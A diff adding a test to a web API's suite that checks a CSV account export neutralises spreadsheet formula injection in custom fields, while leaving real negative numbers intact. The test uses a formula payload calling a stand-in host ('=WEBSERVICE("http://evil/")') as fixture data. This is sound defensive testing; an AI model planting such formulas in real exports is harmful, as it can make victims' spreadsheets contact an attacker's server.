@@ -192,3 +192,26 @@ async def test_templates_show_custom_fields_and_refuse_undefined_ones(
         headers=tenant.supervisor.headers,
     )
     assert (unknown.status_code, unknown.json()["field"]) == (422, "body")
+
+
+async def test_a_number_columns_text_kept_from_before_is_guarded_in_the_csv(
+    client: httpx.AsyncClient, tenant: SeededTenant
+) -> None:
+    """A value stored before its key was a number may be any text: a formula there is
+    neutralised like any text cell; a real number, negative too, is written as it is."""
+    ids = await _world(client, tenant)
+    async with tenant.db.tenant(tenant.id) as conn:
+        await conn.execute(
+            """UPDATE accounts SET custom = custom || jsonb_build_object('score', $2::text)
+            WHERE id = $1""",
+            ids["gold"],
+            '=WEBSERVICE("http://evil/")',
+        )
+        await conn.execute(
+            "UPDATE accounts SET custom = custom || '{\"score\": -5}' WHERE id = $1",
+            ids["silver"],
+        )
+    everything = await client.get(f"{API}/exports/accounts.csv", headers=tenant.admin.headers)
+    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(everything.text))}
+    assert rows[ids["gold"]]["custom.score"] == '\'=WEBSERVICE("http://evil/")'
+    assert rows[ids["silver"]]["custom.score"] == "-5"
